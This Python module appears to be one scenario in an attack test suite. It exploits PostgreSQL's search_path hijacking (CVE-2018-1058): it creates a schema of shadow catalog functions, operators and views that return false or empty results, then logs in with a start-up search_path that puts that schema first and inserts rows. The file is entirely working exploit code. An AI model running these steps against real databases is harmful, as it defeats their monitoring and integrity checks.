"""By the start-up packet own functions and operators come before PostgreSQL's (CVE-2018-1058).

CVE class: start-up settings reaching our own SQL.
"""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "fill"
NAMES = b"""
CREATE SCHEMA early;
CREATE FUNCTION early.zero(oid) RETURNS bigint LANGUAGE sql AS 'SELECT 0::bigint';
CREATE FUNCTION early.pg_stat_get_xact_tuples_inserted(oid) RETURNS bigint
  LANGUAGE sql AS 'SELECT 0::bigint';
CREATE FUNCTION early.current_setting(text, boolean) RETURNS text LANGUAGE sql AS 'SELECT ''0''';
CREATE FUNCTION early.set_config(text, text, boolean) RETURNS text LANGUAGE sql AS 'SELECT ''''';
CREATE FUNCTION early.pg_backend_pid() RETURNS int LANGUAGE sql AS 'SELECT 0';
CREATE FUNCTION early.never(bigint, bigint) RETURNS boolean LANGUAGE sql AS 'SELECT false';
CREATE OPERATOR early.> (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = early.never);
CREATE FUNCTION early.nowhere(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT false';
CREATE OPERATOR early.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = early.nowhere);
CREATE VIEW early.pg_locks AS SELECT * FROM pg_catalog.pg_locks WHERE false;
CREATE VIEW early.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE false;
"""
FILL = b"INSERT INTO public.dmo_nearly SELECT n, 'x' FROM generate_series(1001, 1006) n"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(NAMES))
    with server.login(options="-c search_path=early,pg_catalog,public") as client:
        return ask(client, query(FILL))
